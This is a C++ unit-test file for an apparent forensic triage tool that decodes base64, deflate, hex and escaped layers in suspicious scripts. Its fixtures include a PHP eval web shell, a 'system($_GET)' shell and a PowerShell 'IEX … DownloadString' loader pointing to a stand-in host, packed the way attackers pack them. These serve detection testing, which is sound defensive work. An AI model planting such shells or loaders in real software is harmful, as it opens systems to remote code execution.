// SPDX-License-Identifier: Apache-2.0
#include "casefile/encoding.h"
#include "tests/unit/triage/unfold/collected.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <zlib.h>

namespace firsthour::triage {
namespace {

const std::string kShell = "<?php @eval($_POST['x']); /* some words to make it a little longer */ ?>";

std::string base64(std::string_view bytes) {
  static constexpr char kLetters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string text;
  for (std::size_t i = 0; i < bytes.size(); i += 3) {
    std::uint32_t held = 0;
    const std::size_t here = std::min<std::size_t>(3, bytes.size() - i);
    for (std::size_t k = 0; k < 3; ++k)
      held = held << 8U | (k < here ? static_cast<unsigned char>(bytes[i + k]) : 0U);
    for (std::size_t k = 0; k < 4; ++k)
      text.push_back(k <= here ? kLetters[held >> (18 - 6 * k) & 63U] : '=');
  }
  return text;
}

std::string bare_deflate(const std::string& bytes) {
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY);
  std::string out(bytes.size() + 100, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(bytes.data()));
  stream.avail_in = static_cast<uInt>(bytes.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

TEST(UnfoldLayers, Base64InAStringOfAScript) {
  EXPECT_EQ(unfolded("<?php $a = '" + base64(kShell) + "';").contents, (Files{{"base64@12", kShell}}));
}

TEST(UnfoldLayers, DeflatedAndThenEncodedAsPackersDo) {
  const std::string script = kShell + kShell + "<?php system($_GET['c']); ?>";
  const std::string packed = base64(bare_deflate(script));
  EXPECT_EQ(unfolded("eval(gzinflate(base64_decode(\"" + packed + "\")));").contents,
            (Files{{"base64+deflate@30", script}}));
}

TEST(UnfoldLayers, OverTheLinesOfAMailAndInQuotedStrings) {
  std::string lines, quoted;
  const std::string long_text = kShell + kShell + kShell, encoded = base64(long_text);
  for (std::size_t i = 0; i < encoded.size(); i += 76) {
    lines += encoded.substr(i, 76) + "\r\n";
    quoted += encoded.substr(i, 76) + "\\n";
  }
  EXPECT_EQ(unfolded("Subject: x\r\n\r\n" + lines + "\r\n").contents, (Files{{"base64@14", long_text}}));
  EXPECT_EQ(unfolded("\"" + quoted + "\"").contents, (Files{{"base64@1", long_text}}));
}

TEST(UnfoldLayers, HexadecimalEvenBehindOtherSigns) {
  EXPECT_EQ(unfolded("//" + to_hex(std::as_bytes(std::span{kShell}))).contents, (Files{{"hex@2", kShell}}));
}

TEST(UnfoldLayers, Base64BehindOtherSignsOfTheAlphabet) {
  const Collected found = unfolded("x=//" + base64(std::string(600, 'A') + kShell));
  ASSERT_EQ(found.contents.size(), 1u);
  EXPECT_THAT(found.contents.begin()->second, testing::HasSubstr(kShell));
}

TEST(UnfoldLayers, WideTextAsPowerShellTakesIt) {
  std::string wide;
  for (const char c : std::string{"IEX (New-Object Net.WebClient).DownloadString('http://a')"})
    wide += c, wide += '\0';
  EXPECT_EQ(unfolded("powershell -enc " + base64(wide)).contents, (Files{{"base64@16", wide}}));
}

TEST(UnfoldLayers, PathsNamesAndDigestsAreNoLayers) {
  const std::string text =
      "/usr/lib/x86_64-linux-gnu/perl5/5.36/auto/Some/Very/Long/Path/That/Goes/On/And/On/For/Ever "
      "aVeryLongIdentifierThatSomebodyFoundNecessaryToWriteInFullWithoutAnyBreakWhatsoever "
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 "
      "AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 ----------------------------------------------------------------";
  EXPECT_THAT(unfolded(text).contents, testing::IsEmpty());
}

TEST(UnfoldLayers, LinesThatAreIndentedAndStringsThatAreJoined) {
  const std::string long_text = kShell + kShell + kShell, encoded = base64(long_text);
  std::string yaml = "data:\n", python = "p = (", basic = "s = ";
  for (std::size_t i = 0; i < encoded.size(); i += 64) {
    yaml += "      " + encoded.substr(i, 64) + "\n";
    python += "\"" + encoded.substr(i, 64) + "\"\n     ";
    basic += "\"" + encoded.substr(i, 64) + "\" & _\r\n  ";
  }
  EXPECT_EQ(unfolded(yaml).contents, (Files{{"base64@12", long_text}}));
  EXPECT_EQ(unfolded(python).contents, (Files{{"base64@6", long_text}}));
  EXPECT_EQ(unfolded(basic).contents, (Files{{"base64@5", long_text}}));
}

TEST(UnfoldLayers, AListOfEncodingsIsOneEach) {
  const std::string one = kShell + "1", two = kShell + "2";
  const std::size_t second = base64(one).size() + 1;
  EXPECT_EQ(unfolded(base64(one) + "\n" + base64(two)).contents,
            (Files{{"base64@0", one}, {"base64@" + std::to_string(second), two}}));
}

std::string wide(const std::string& text) {
  std::string both;
  for (const char c : text) both += c, both += '\0';
  return both;
}

TEST(UnfoldLayers, InWideTextAtEvenAndOddPlaces) {
  const std::string text = wide("powershell -enc " + base64(wide(kShell)));
  EXPECT_EQ(unfolded(text).contents, (Files{{"base64@32", wide(kShell)}}));
  EXPECT_EQ(unfolded("x" + text).contents, (Files{{"base64@33", wide(kShell)}}));
}

TEST(UnfoldLayers, WhatIsSaidToBeEncodedIsTakenWhateverItHolds) {
  std::string shellcode;
  for (int i = 0; i < 60; ++i) shellcode.push_back(static_cast<char>(0x81 + 37 * i));
  EXPECT_THAT(unfolded("x = '" + base64(shellcode) + "'").contents, testing::IsEmpty());
  EXPECT_EQ(unfolded("[Convert]::FromBase64String('" + base64(shellcode) + "')").contents,
            (Files{{"base64@29", shellcode}}));
  EXPECT_EQ(unfolded("hex2bin('" + to_hex(std::as_bytes(std::span{shellcode})) + "')").contents,
            (Files{{"hex@9", shellcode}}));
}

TEST(UnfoldLayers, EscapesOfScriptsAndListsOfBytes) {
  std::string escaped, octal, list, numbers;
  char text[16];
  for (const char c : kShell) {
    std::snprintf(text, sizeof text, "\\x%02x", static_cast<unsigned>(c));
    escaped += text;
    std::snprintf(text, sizeof text, "\\%03o", static_cast<unsigned>(c));
    octal += text;
    std::snprintf(text, sizeof text, "0x%02X,%s", static_cast<unsigned>(c), list.size() % 5 ? " " : "\n  ");
    list += text;
  }
  EXPECT_EQ(unfolded("$f = \"" + escaped + "\";").contents, (Files{{"escapes@6", kShell}}));
  EXPECT_EQ(unfolded("$f = \"" + octal + "\";").contents, (Files{{"escapes@6", kShell}}));
  EXPECT_EQ(unfolded("[Byte[]] $b = " + list).contents, (Files{{"escapes@14", kShell}}));
  EXPECT_THAT(unfolded("int a[] = {0x12345678, 0x9abcdef0, 0x0badcafe, 0x12345678, 0x9abcdef0, 0x0badcafe};")
                  .contents,
              testing::IsEmpty());
}

TEST(UnfoldLayers, ABombInATextIsALoss) {
  UnfoldLimits limits;
  limits.member = 1U << 20U;
  const std::string packed = base64(bare_deflate(std::string(2U << 20U, 'b')));
  const Collected found = unfolded("gzinflate(base64_decode('" + packed + "'));", "it", limits);
  EXPECT_THAT(found.losses, testing::ElementsAre("base64+deflate@25: larger than 1 MiB"));
  EXPECT_THAT(found.contents, testing::IsEmpty());
}

TEST(UnfoldLayers, AStreamThatWasCutIsGivenAsFarAsItGoes) {
  std::string noise;
  for (unsigned i = 0, x = 1; i < 400; ++i) noise += std::to_string(x = x * 1103515245U + 12345U) + "\n";
  std::string text(compressBound(noise.size()), '\0');
  uLongf size = text.size();
  ASSERT_EQ(compress(reinterpret_cast<Bytef*>(text.data()), &size,
                     reinterpret_cast<const Bytef*>(noise.data()), noise.size()),
            Z_OK);
  text.resize(size / 2);
  const Collected found = unfolded(base64(text));
  ASSERT_EQ(found.contents.size(), 1u);
  EXPECT_TRUE(noise.starts_with(found.contents.begin()->second));
  EXPECT_THAT(found.losses, testing::ElementsAre(testing::HasSubstr("cut short")));
}

TEST(UnfoldLayers, ChineseTextInEitherEncoding) {
  const std::string utf8 = "echo 测试文件，请勿删除。 系统管理员 2026 年 11 月";
  const std::string gb =
      "echo \xb2\xe2\xca\xd4\xce\xc4\xbc\xfe\xa3\xac\xc7\xeb\xce\xf0\xc9\xbe\xb3\xfd from all of us here";
  EXPECT_EQ(unfolded("'" + base64(utf8) + "'").contents, (Files{{"base64@1", utf8}}));
  EXPECT_EQ(unfolded("'" + base64(gb) + "'").contents, (Files{{"base64@1", gb}}));
}

TEST(UnfoldLayers, FillersAreNoLayers) {
  EXPECT_THAT(unfolded(std::string(500, '7') + " " + std::string(300, 'M')).contents, testing::IsEmpty());
}

TEST(UnfoldLayers, TooManyAreALossThatSaysFromWhere) {
  std::string text;
  for (int i = 0; i < 300; ++i) text += base64(kShell + std::to_string(i)) + "\n\n";
  const Collected found = unfolded(text);
  EXPECT_EQ(found.contents.size(), 256u);
  EXPECT_THAT(found.losses, testing::ElementsAre(testing::HasSubstr("were left out")));
}

// Two hundred of them in one text took minutes, and the worker was killed with all that it had found.
TEST(UnfoldLayers, WhatIsInflatedForNothingIsPaidForToo) {
  std::string text;
  for (int i = 0; i < 12; ++i)
    text += base64(bare_deflate(std::string(400'000 + static_cast<std::size_t>(i), '\0'))) + "\n\n";
  UnfoldLimits limits;
  limits.bytes = 2U << 20U;
  const Collected found = unfolded(text, "it", limits);
  ASSERT_EQ(found.losses.size(), 1u);
  EXPECT_THAT(found.losses[0], testing::HasSubstr("more encoded layers than are looked at"));
}

}  // namespace
}  // namespace firsthour::triage
